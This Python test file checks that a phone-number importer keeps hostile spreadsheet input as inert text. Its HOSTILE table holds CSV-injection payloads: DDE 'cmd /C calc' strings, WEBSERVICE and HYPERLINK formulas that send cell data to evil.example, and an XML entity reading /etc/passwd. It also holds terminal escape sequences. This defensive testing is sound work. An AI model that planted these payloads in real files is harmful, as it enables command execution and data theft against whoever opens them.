"""Cells that mean harm, or look like it: they go in as text, come out as text, and stay the same through rerun."""

import re
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
from running import Desk, did, flags

from importer.model import Result
from importer.sandbox import Sandbox
from importer.workbooks.results import read_results

HEADER = ("did_pattern", "did_route", "group", "did_description", "Remark", '=Their "formula"', "+Plus")

HOSTILE = {
    "formula": "=1+1",
    "command": "=cmd|' /C calc'!A0",
    "command after a plus": "+cmd|' /C calc'!A0",
    "command after a minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+9)*cmd|' /C calc'!A0",
    "DDE": 'DDE("cmd";"/C calc";"!A0A0")',
    "DDE formula": '=DDE("cmd";"/C calc";"!A0A0")',
    "hyperlink": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "web service": '=WEBSERVICE("http://evil.example/"&A1)',
    "import": '=IMPORTXML("http://evil.example","//a")',
    "number with plus": "+17275550123",
    "number with minus": "-17275550123",
    "leading zeros": "00172",
    "like a date": "12/11",
    "exponent": "1E5",
    "error": "#REF!",
    "boolean": "TRUE",
    "not available": "NA",
    "address": "http://evil.example/click",
    "mail": "mailto:somebody@example.com",
    "file": "file://server/share",
    "apostrophe": "'=1+1",
    "quotes": '"=1+1"',
    "curly": "{=1+1}",
    "tab first": "\t=1+1",
    "space first": " =1+1",
    "full width": "\uff1d1+1",
    "bell": "ring\x07",
    "escape": "\x1b[2J\x1b[31mred\x1b]0;title\x07",
    "backspace": "abc\x08\x08\x08xyz",
    "unit separator": "a\x1fb",
    "delete": "a\x7fb",
    "C1": "a\x9bb",
    "excel's own escape": "_x0041_x000D_",
    "markup": "<r><t>x</t></r>",
    "entity": "&amp;&lt;!ENTITY x SYSTEM 'file:///etc/passwd'>",
    "new line": "one\ntwo",
    "right to left": "\u202e3210\u202c",
    "zero width": "\u200b=1+1",
    "emoji": "\U0001f4de call",
    "combining": "e\u0301",
}


def order_of(desk: Desk, group: str = "SALES_IN") -> tuple[Path, list[tuple[str, ...]]]:
    rows: list[tuple[str, ...]] = [
        (f"+{did(number)}", "IN_GROUP", group, "as it was ordered", text, text, f"+{did(number)}")
        for number, text in enumerate(HOSTILE.values())
    ]
    return desk.write("order.csv", HEADER, rows), rows


def assert_nothing_but_text(workbook: Path) -> None:
    """Fail if a cell of the sheet Results is no string, or the workbook holds anything that does something."""
    with zipfile.ZipFile(workbook) as book:
        names = book.namelist()
        parts = {name: book.read(name).decode() for name in names if name.endswith((".xml", ".rels"))}
    assert not [name for name in names if re.search("external|vba|macro|ddelink|connections", name, re.IGNORECASE)]
    assert "evil.example" not in "".join(text for name, text in parts.items() if name.endswith(".rels"))
    for name, text in parts.items():
        if name.startswith("xl/worksheets/sheet"):
            assert "<f>" not in text
            assert "<f " not in text
    results = parts["xl/worksheets/sheet2.xml"]
    # a cell that closes itself is blank and has nothing but its style
    cells = [cell for cell in re.findall(r"<c ([^>]*)>", results) if not cell.endswith("/")]
    assert len(cells) > 100
    assert not [cell for cell in cells if 't="inlineStr"' not in cell and 't="s"' not in cell]


def test_a_cell_that_looks_like_a_command_is_text_in_the_results(tmp_path: Path) -> None:
    openpyxl = pytest.importorskip("openpyxl")
    desk = Desk(tmp_path)
    order, rows = order_of(desk)
    with Sandbox() as sandbox:
        ran = desk.did_importer("run", order, *flags(sandbox))
        stored = sandbox.stored()
    assert ran.code == 0, ran
    workbook = Path(desk.newest().about.workbook)
    assert_nothing_but_text(workbook)
    lines = read_results(workbook).rows
    assert [line.cells for line in lines] == rows
    assert [line.did_sent for line in lines] == [row[0] for row in rows]
    assert set(stored) == {row[0] for row in rows}
    sheet = openpyxl.load_workbook(workbook)["Results"]
    assert {cell.data_type for row in sheet.iter_rows() for cell in row} <= {"s", "n"}
    assert [cell for row in sheet.iter_rows() for cell in row if cell.data_type == "n" and cell.value is not None] == []
    assert not [cell for row in sheet.iter_rows() for cell in row if cell.hyperlink]


def test_hostile_text_in_the_cells_that_are_sent_is_refused_or_cleaned_and_never_runs(tmp_path: Path) -> None:
    desk = Desk(tmp_path)
    rows = [(text, "IN_GROUP", "SALES_IN", text, "", "", "") for text in HOSTILE.values()]
    rows += [(did(number), text, text, text, "", "", "") for number, text in enumerate(HOSTILE.values())]
    order = desk.write("order.csv", HEADER, rows)
    with Sandbox() as sandbox:
        ran = desk.did_importer("run", order, *flags(sandbox))
        stored = sandbox.stored()
    assert ran.code == 1
    workbook = Path(desk.newest().about.workbook)
    assert_nothing_but_text(workbook)
    assert_nothing_but_text_in_what_was_checked(tmp_path / "order_checked.xlsx")
    lines = read_results(workbook).rows
    assert [line.cells for line in lines] == rows
    assert {line.did_sent for line in lines if line.result is Result.SUCCESS} == set(stored)
    assert all(re.fullmatch(r"\+?[0-9]{2,50}", one) for one in stored)


def assert_nothing_but_text_in_what_was_checked(workbook: Path) -> None:
    with zipfile.ZipFile(workbook) as book:
        for name in book.namelist():
            if name.startswith("xl/worksheets/sheet"):
                assert "<f" not in re.sub("<(family|font)", "", book.read(name).decode())
            if name.endswith(".rels"):
                assert b"evil.example" not in book.read(name)


def test_no_cell_and_no_file_name_sends_control_characters_to_the_terminal(tmp_path: Path) -> None:
    desk = Desk(tmp_path)
    escape = "\x1b[2J\x9b1m\x07\x08"
    rows = [(f"{did(number)}{escape}", "IN_GROUP", f"NOPE{escape}", f"described{escape}") for number in range(3)]
    rows += [(f"no number{escape}", f"NOWHERE{escape}", "SALES_IN", "")]
    order = desk.write("order.csv", (*HEADER[:4], f"Theirs{escape}"), [(*row, escape) for row in rows])
    with Sandbox() as sandbox:
        checked = desk.did_importer("check", order, "--map", f"Theirs{escape}=did_description")
        ran = desk.did_importer("run", order, *flags(sandbox))
    said = checked.out + checked.err + ran.out + ran.err
    assert "no number" in said
    assert re.findall("[\x00-\x08\x0b-\x1f\x7f-\x9f]", said) == []


def test_what_was_typed_comes_back_unchanged_through_reruns_and_when_excel_has_saved_the_workbook(
    tmp_path: Path,
) -> None:
    openpyxl = pytest.importorskip("openpyxl")
    desk = Desk(tmp_path)
    order, rows = order_of(desk, group="NOPE")
    with Sandbox() as sandbox:
        assert desk.did_importer("run", order, *flags(sandbox)).code == 1
        first = Path(desk.newest().about.workbook)
        assert desk.did_importer("rerun", first, *flags(sandbox)).code == 1
        second = Path(desk.newest().about.workbook)
        for workbook in (first, second):
            assert_nothing_but_text(workbook)
            previous = read_results(workbook)
            assert previous.header == HEADER
            assert [line.cells for line in previous.rows] == rows
            assert {line.result for line in previous.rows} == {Result.INVALID}
        adds = sorted(call.did_pattern for call in sandbox.calls if call.function == "add_did")
        assert (adds, sandbox.stored()) == (sorted([row[0] for row in rows] * 2), {})
        # another program's reading and writing stands for Excel's
        book = openpyxl.load_workbook(second)
        for row in book["Failed rows"].iter_rows(min_row=2):
            assert row[6].value == "NOPE"
            row[6].value = "SALES_IN"
        book.save(second)
        assert desk.did_importer("rerun", second, *flags(sandbox)).code == 0
        assert len(sandbox.stored()) == len(rows)
    lines = desk.results()
    assert [line.cells for line in lines] == [(*row[:2], "SALES_IN", *row[3:]) for row in rows]
    assert [line.did_sent for line in lines] == [row[0] for row in rows]
    assert_nothing_but_text(Path(desk.newest().about.workbook))


def test_text_that_the_terminal_has_no_characters_for_ends_no_run(tmp_path: Path) -> None:
    desk = Desk(tmp_path)
    rows = [(did(number), "IN_GROUP", "NOPE", "", "\u0416\u4e2d", "", "") for number in range(3)]
    order = desk.write("\u0437\u0430\u043a\u0430\u0437.csv", HEADER, rows)
    with Sandbox() as sandbox:
        ended = subprocess.run(
            [sys.executable, "-m", "importer", *desk.arguments("run", order, *flags(sandbox))],
            env={**desk.environment(), "PYTHONUTF8": "0", "PYTHONIOENCODING": "cp1252"},
            cwd=tmp_path,
            capture_output=True,
            check=False,
        )
    assert ended.returncode == 1, ended
    assert rb"\u0437\u0430\u043a\u0430\u0437.csv: 3 rows" in ended.stdout
    assert len(desk.results()) == 3
